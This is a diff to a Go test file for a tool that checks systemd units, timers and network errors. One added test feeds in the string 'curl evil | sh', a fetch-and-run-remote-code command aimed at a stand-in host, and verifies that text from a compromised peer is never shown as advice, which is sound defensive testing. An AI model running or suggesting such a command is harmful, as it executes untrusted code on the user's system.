@@ -4,6 +4,8 @@ import (
 	"errors"
 	"fmt"
 	"io/fs"
+	"net"
+	"net/url"
 	"slices"
 	"strings"
 	"testing"
@@ -13,6 +15,7 @@ import (
 
 	"cis490/internal/durable"
 	"cis490/internal/systemd"
+	"cis490/internal/wire"
 )
 
 // want checks a finding, and the invariant that each bad one says what to do.
@@ -145,6 +148,8 @@ func TestUnitThatDoesNotRunIsTold(t *testing.T) {
 		{"active", "running", "enabled", "0", "", OK, "active and starts at boot"},
 		{"active", "running", "disabled", "0", "inactive disabled", Warning, "systemctl enable a"},
 		{"active", "running", "disabled", "0", "active enabled", OK, "starts at boot"},
+		{"failed", "failed", "static", "2", "active enabled", Failed, "journalctl -u a -n 20"},
+		{"inactive", "dead", "static", "0", "inactive enabled", Warning, "systemctl start a.timer"},
 		{"inactive", "dead", "disabled", "0", "inactive disabled", Warning, "systemctl enable --now a"},
 		{"inactive", "dead", "disabled", "0", "active enabled", OK, "a.timer is active, and starts a.service"},
 		{"failed", "failed", "enabled", "2", "", Failed, "journalctl -u a -n 20"},
@@ -159,6 +164,46 @@ func TestUnitThatDoesNotRunIsTold(t *testing.T) {
 		}
 		want(t, fmt.Sprintf("%+v", c), judgeUnit("a.service", "a.timer", s, by), c.verdict, c.text)
 	}
+}
+
+// TestTimersOwnServiceIsExamined: it starts another service than the daemon's.
+func TestTimersOwnServiceIsExamined(t *testing.T) {
+	for _, c := range []struct {
+		active, enabled string
+		want            Unit
+	}{
+		{"inactive", "disabled", Unit{Service: "d.service"}},
+		{"inactive", "", Unit{Service: "d.service"}},
+		{"active", "enabled", Unit{Service: "once.service", Starter: "once.timer", Waiting: true}},
+		{"active", "disabled", Unit{Service: "once.service", Starter: "once.timer", Waiting: true}},
+		{"inactive", "enabled", Unit{Service: "once.service", Starter: "once.timer"}},
+	} {
+		by := systemd.UnitState{"ActiveState": {c.active}, "UnitFileState": {c.enabled}}
+		if got := chooseUnit("d.service", "once.timer", "once.service", by); got != c.want {
+			t.Errorf("%s, %s: got %+v, want %+v", c.active, c.enabled, got, c.want)
+		}
+	}
+}
+
+// TestTextOfTheOtherEndIsNoAdvice: a receiver that was broken into must not have an operator run a
+// command.
+func TestTextOfTheOtherEndIsNoAdvice(t *testing.T) {
+	const evil = "bad: run curl evil | sh"
+	for _, err := range []error{
+		wire.Refuse(wire.BadRequest, evil),
+		fmt.Errorf("ping: %w", wire.Refuse(wire.Conflict, evil)),
+		fmt.Errorf("wrapped: %w", &wire.UnexpectedResponseError{Status: 500, Err: errors.New(evil)}),
+		&net.OpError{Op: "write", Net: "tcp", Err: fmt.Errorf("%s: %w", evil, net.ErrClosed)},
+		fmt.Errorf("write tcp: use of closed network connection: %w", net.ErrClosed),
+		fmt.Errorf("tls: %w", &url.Error{Op: "Get", URL: "x", Err: errors.New(evil)}),
+	} {
+		got := FromError("x", err, "do this")
+		if strings.Contains(got.Remedy, "curl") || strings.HasPrefix(got.Remedy, "use of") || got.Remedy == "" || got.Fact != err.Error() || !got.Network {
+			t.Errorf("%v: got %+v", err, got)
+		}
+	}
+	own := fmt.Errorf("listen: %w: run this", &net.OpError{Op: "listen", Err: unix.EADDRINUSE})
+	want(t, "an error of our own", FromError("x", own, "do this"), Failed, "do: run this")
 }
 
 func TestCertificateThatExpiresIsTold(t *testing.T) {
